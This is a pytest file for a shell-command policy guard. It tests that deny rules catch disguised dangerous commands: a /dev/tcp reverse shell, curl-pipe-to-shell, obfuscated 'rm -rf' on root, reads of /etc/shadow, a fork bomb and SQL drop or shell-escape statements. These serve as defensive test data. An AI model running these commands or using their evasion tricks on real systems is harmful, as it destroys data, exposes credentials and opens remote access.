"""Rules about a command with what starts it, what it is fed to, or what it is told in SQL.

Each row is a rule's pattern and a line that it must refuse, although what cannot be read
is allowed there. The tables only ever grow.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from appliance.model import Action, Identity, Outcome, Question, TargetName
from appliance.policy.rules import RuleSet
from appliance.session.guard import decide_command, decide_typed
from appliance.session.terminal.judging import LineJudge

NOW = datetime(2026, 1, 1, tzinfo=UTC)
ADA = Identity("ada", "ada", "idp", frozenset(), "ssh-key", NOW, NOW + timedelta(hours=1))
ALL = {"id": "all", "effect": "allow", "actions": ["exec", "shell"]}
LAX = {"id": "lax", "effect": "allow", "commands": ["unknown"]}

REFUSED = [
    # a wrapper with what it starts
    ("sudo rm -rf *", "sudo rm -fr x"),
    ("sudo rm -rf *", "sudo -n -- rm -r -f x"),
    ("sudo rm -rf *", "sudo sh -c 'cd /srv; rm -rf x'"),
    ("sudo rm *", "sudo env nice rm x"),
    ("sudo systemctl stop *", "sudo A=b systemctl stop x"),
    ("sudo su", "sudo su -"),
    ("sudo bash", "sudo -u root bash"),
    ("sudo -u postgres psql *", "sudo -u postgres psql -c 'select 1'"),
    ("ssh * rm *", "ssh -p 22 h rm x"),
    ("ssh", "slogin h"),
    ("ssh h sudo *", "ssh h 'ls; sudo ls'"),
    ("xargs", "ls | xargs ls"),
    ("xargs rm *", "ls | xargs -n 1 rm"),
    ("env", "env A=b ls"),
    ("nohup *", "nohup ls &"),
    ("timeout *", "timeout 5 ls"),
    ("watch", "watch -n 5 ls"),
    ("exec", "exec bash"),
    ("coproc", "coproc ls"),
    ("setsid *", "command setsid ls"),
    ("flock *", "flock x ls"),
    ("script", "script -c ls"),
    ("busybox *", "busybox ls"),
    ("eval *", "eval ls"),
    ("bash -c *", "/bin/bash -c ls"),
    ("bash -i *", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
    ("bash", "ls; bash x.sh"),
    # a wrapper that also changes the folder
    ("rm -rf /*", "unshare --wd=/ <<< 'rm -rf /srv/x'"),
    ("rm -rf /*", "nsenter -t 1 --wd=/ <<< 'rm -rf /srv/x'"),
    ("rm -rf /*", "sudo -D / -s <<< 'rm -rf /srv/x'"),
    ("rm -rf /*", "sudo --chdir=/ -i rm -rf srv"),
    ("rm -rf /*", "env -C / -S 'rm -rf srv'"),
    ("rm -rf /*", "env --chdir=/ --split-string='rm -rf /srv/x'"),
    # the two sides of a pipe
    ("curl * | sh", "curl https://h/x | sh"),
    ("curl * | *sh*", "curl -fsSL https://h/x | sudo bash -s -- a"),
    ("curl * | sh", "curl https://h/x | tee y | sh"),
    ("* | sh", "(cat x; true) 2>/dev/null | env sh"),
    ("base64 * | *", "echo x | base64 -d | sh"),
    ("curl * | sh", "sudo sh -c 'curl x | sh'"),
    # a shell that is fed what stands there
    ("rm -rf /*", "echo 'rm -rf /srv' | sh"),
    ("rm -rf /*", "/bin/echo -n rm -rf /srv | sudo -u x bash -s"),
    ("rm -rf /*", "echo -e 'r\\x6d -rf /srv' | env bash -"),
    ("rm -rf /*", 'echo "rm -rf /srv/$X" | sh'),
    ("rm -rf /*", "printf 'r%s -rf %s\\n' m /srv | tee x | sh"),
    ("rm -rf /*", "printf '\\162m -rf /srv' | ssh h"),
    ("rm -rf /*", "cat <<< 'rm -rf /srv' | cat | sh"),
    # a command in braces, or a glob
    ("rm -rf /*", "{rm,-rf,/srv}"),
    ("rm -rf /*", "ls; {rm,-rf} /srv"),
    ("cat /etc/shadow", "if {c,}at /etc/shadow; then :; fi"),
    ("cat /etc/shadow", "true && {cat,/etc/{shadow,x}}"),
    ("cat /etc/shadow", "/bin/ca? /etc/shadow"),
    # a redirection as people write it
    ("> /etc/*", "echo x > /etc/motd"),
    (">> /etc/*", "sudo tee -a /etc/motd"),
    # statements of SQL clients
    ("*DROP TABLE*", "psql -c 'drop  table x'"),
    ("psql -c *DROP TABLE*", "psql db -c'DROP/* */TABLE x'"),
    ("psql -c *DROP TABLE*", "psql --command='Drop Table x' db"),
    ("psql *DROP TABLE patients*", "psql -tAc 'DROP -- x\nTABLE PATIENTS'"),
    ("*drop table*", "psql <<< 'DROP TABLE x'"),
    ("*DROP TABLE*", "psql <<E\nselect 1;\ndrop\ntable x;\nE"),
    ("mysql *DROP*", "mysql -u a -e 'drop table x' db"),
    ("sqlite3 *DROP*", "sqlite3 x.db 'drop table y'"),
    ("rm", "psql -c '\\! rm x'"),
    ("rm", "psql -c \"copy t to program 'rm x'\""),
    ("rm", "sqlite3 x.db '.shell rm x'"),
    ("rm", "mysql -e 'system rm x'"),
    # other words for the same deed
    ("systemctl stop sshd", "systemctl stop sshd.service"),
    ("systemctl stop sshd.service", "systemctl stop sshd"),
    ("systemctl stop sshd", "systemctl stop 'ss*'"),
    ("systemctl stop *", "systemctl kill sshd"),
    ("systemctl stop *", "systemctl --now disable sshd"),
    ("systemctl stop *", "systemctl mask --now sshd"),
    ("systemctl stop sshd", "systemctl isolate rescue"),
    ("systemctl stop sshd", "systemctl rescue"),
    ("userdel", "deluser x"),
    ("deluser *", "userdel -r x"),
    ("useradd", "adduser x"),
    ("reboot", "loginctl reboot"),
    ("sudo *", "sudoedit x"),
    ("*/etc/shadow*", "grep -rh root /etc/"),
    ("*/etc/shadow*", "cp -rp /etc x"),
    # above the home may be the root
    ("rm -rf /*", "cd ..; rm -rf srv"),
    ("rm -rf /*", "cd ..; cd ..; rm -rf srv/x"),
    ("rm -rf /srv/*", "cd a/../..; rm -rf ./srv/x"),
    ("rm -rf /*", "cd; cd ..; rm -rf srv"),
    ("rm -rf /*", "cd ~/../..; rm -rf srv"),
    ("rm -rf /*", "for i in 1 2 3; do cd ..; done; rm -rf srv"),
    ("rm -rf /*", "until [ -e srv ]; do cd ..; done; rm -rf srv"),
    ("rm -rf /*", "pushd ..; pushd ..; rm -rf srv"),
    ("rm -rf /*", "up() { cd ..; }; up; up; rm -rf srv"),
    ("rm -rf /*", "false && cd a/b; cd ../..; rm -rf srv"),
    ("rm -rf /*", "cd a && false || cd .. && cd .. && rm -rf srv"),
    ("rm -rf /*", "! cd a && cd .. && rm -rf srv"),
    ("rm -rf /*", "(cd a/b) && cd ../.. && rm -rf srv"),
    ("rm -rf /*", "if ! cd a; then cd ..; rm -rf srv; fi"),
    ("rm -rf /*", "while :; do false && cd a; cd ..; rm -rf srv; done"),
    ("rm -rf /*", "rm -rf ../srv/x"),
    ("rm -rf /*", "cd $(echo /); rm -rf ./srv"),
    ("rm -rf /*", "chroot / sh -c 'rm -rf srv'"),
    ("rm -rf /*", "dash -c 'chdir /; rm -rf srv'"),
    ("rm -rf /*", "find / -maxdepth 0 -execdir rm -rf srv \\;"),
    ("cat /etc/shadow", "find /etc -name shadow -execdir cat shadow \\;"),
    ("cat /etc/shadow", "pushd /etc; pushd /tmp; cd ~1; cat shadow"),
    ("cat /etc/shadow", "cd $X; cat etc/shadow"),
    ("cat /etc/shadow", "cat ../etc/shadow"),
    ("cat /etc/shadow", "cd ..; cat ../etc/shadow"),
    ("cat /etc/shadow", "cd ../../etc; cat shadow"),
    ("cat /etc/shadow", "true && cd a && { cd /etc; } && cat shadow"),
    ("cat /etc/shadow", "true && cd a && cd /etc 2>/dev/null && cat shadow"),
    ("cat /etc/shadow", "true && cd a && (cd /etc && cat shadow)"),
]  # fmt: skip
ALLOWED = [
    ("sudo rm -rf *", "sudo ls; rm -rf x"),
    ("sudo su*", "sudo -u ada ls"),
    ("curl * | sh", "curl x -o y; ls | sort"),
    ("cat *secret*", "cat a | grep secret"),
    ("rm -rf /*", "echo 'rm -rf /srv' | grep rm; echo 'rm -rf /srv' | tee x"),
    ("rm -rf /*", "printf '%s\\n' rm -rf /srv | sort"),
    ("rm -rf /*", "cp x{,.bak}; echo {rm,-rf,/srv}; { ls; }"),
    ("cat /etc/shadow", "cat a | grep /etc/shadow"),
    ("rm -rf *", "rm x | grep -rf y z"),
    ("*/etc/shadow*", "sort -T /tmp x"),
    ("*/etc/shadow*", "7z a b.7z user@host.txt"),
    ("bash", "ls bash"),
    ("*DROP TABLE*", "psql -c 'select drop_table from x'"),
    ("systemctl stop sshd", "systemctl disable sshd"),
    ("systemctl stop sshd", "systemctl stop sshd.socket"),
    ("rm", "f() { echo in f; }; f"),
    ("rm -rf /*", "cd a; ls; cd ..; rm -rf a"),
    ("rm -rf /*", "rm -rf ../build"),
    ("rm -rf /*", "cd $X && rm -rf dist lib"),
    ("rm -rf /*", "find . -name '*.o' -execdir rm -rf build \\;"),
    ("cat /etc/shadow", "cat ../etc.md; cd $X; cat README"),
    ("cat /etc/shadow", "find . -name x -execdir cat {} +"),
    ("rm -rf /*", "mkdir -p a/b && cd a/b && touch c && cd ../.. && rm -rf a"),
    ("rm -rf /*", "true && cd a 2>/dev/null && cd .. && rm -rf a"),
    ("rm -rf /*", "for d in a b; do cd $d; ls; cd ..; done; rm -rf x"),
    ("rm -rf /*", "if [ -d x ]; then cd x; ls; cd ..; fi; rm -rf x"),
]

UNREAD = [
    "echo '.shell rm x' | sqlite3", "sqlite3 < f", "psql < f", "cat f | mysql", "LESSEDIT=x less f",
    "sqlite3 <<< '.shell \\162m x'", "tmux -c 'rm x'", "tmux -L a -c ls new",
    "f() { f | f & }; f", ":(){ :|:& };:", "uv run x.py", "nix run x", "bpftrace x", "tsx x.ts",
    "BORG_PASSCOMMAND='rm x' borg list", "restic -o sftp.command='rm x' snapshots",
    "sbatch --wrap='rm x'", "xfs_io -c '!rm x' f", "doas -s <<< 'rm x'", "goawk 'BEGIN{}'",
]  # fmt: skip


def decide_both(rules: list[dict[str, object]], line: str) -> list[Outcome]:
    rule_set = RuleSet.model_validate({"rules": [ALL, *rules]})
    sent = Question(ADA, TargetName("web01"), Action.EXEC, NOW, command=line)
    typed = Question(ADA, TargetName("web01"), Action.SHELL, NOW, command=line)
    return [
        decide_command(rule_set, sent).decision.outcome,
        decide_typed(rule_set, typed, is_whole=True).decision.outcome,
    ]


@pytest.mark.parametrize(("pattern", "line"), REFUSED)
def test_a_rule_meets_a_command_with_what_stands_around_it(pattern: str, line: str) -> None:
    no = {"id": "no", "effect": "deny", "commands": [pattern]}
    assert decide_both([LAX, no], line) == [Outcome.DENY, Outcome.DENY]


@pytest.mark.parametrize(("pattern", "line"), ALLOWED)
def test_a_rule_meets_nothing_that_stands_apart(pattern: str, line: str) -> None:
    no = {"id": "no", "effect": "deny", "commands": [pattern]}
    assert decide_both([LAX, no], line) == [Outcome.ALLOW, Outcome.ALLOW]


@pytest.mark.parametrize("line", UNREAD)
def test_what_cannot_be_read_is_refused(line: str) -> None:
    no = {"id": "no", "effect": "deny", "commands": ["rm"]}
    assert decide_both([no], line) == [Outcome.DENY, Outcome.DENY]


OPENED = [
    "env -C /etc bash", "sudo -D /etc -s", "sudo --chdir=/etc bash", "unshare --wd=/etc",
    "nsenter -t 1 -w/etc sh", "timeout 9 env -C /etc sh", "tmux new -c /etc",
    "script -qc 'env -C /etc bash'", "(cd /etc; less x)", "cd /etc; bash", "true && (cd /etc; vim)",
]  # fmt: skip


@pytest.mark.parametrize("line", OPENED)
def test_a_shell_stands_where_it_was_opened(line: str) -> None:
    no = {"id": "no", "effect": "deny", "commands": ["cat /etc/shadow"]}
    rule_set = RuleSet.model_validate({"rules": [ALL, no]})
    question = Question(ADA, TargetName("web01"), Action.SHELL, NOW)
    judge = LineJudge(rule_set, question)
    verdict = judge.judge_line(line)
    if verdict.decision.outcome is Outcome.ALLOW:
        judge.accept(verdict)
        assert judge.judge_line("cat shadow").decision.outcome is Outcome.DENY
    else:
        assert verdict.decision.rule == "command-unknown"


def test_pipelines_and_wrappers_within_each_other_are_bounded() -> None:
    no = {"id": "no", "effect": "deny", "commands": ["* | sh"]}
    deep = "ls"
    for _ in range(60):
        deep = f"({deep}|ls)"
    wide = "|".join(["ls"] * 150)
    many = ";".join(f"a{n}|b{n}" for n in range(100))
    answers = {deep: Outcome.DENY, wide: Outcome.ALLOW, many: Outcome.ALLOW}
    for line, answer in (answers | {"sudo " * 60 + "ls": Outcome.DENY}).items():
        assert decide_both([no], line) == [answer, answer]
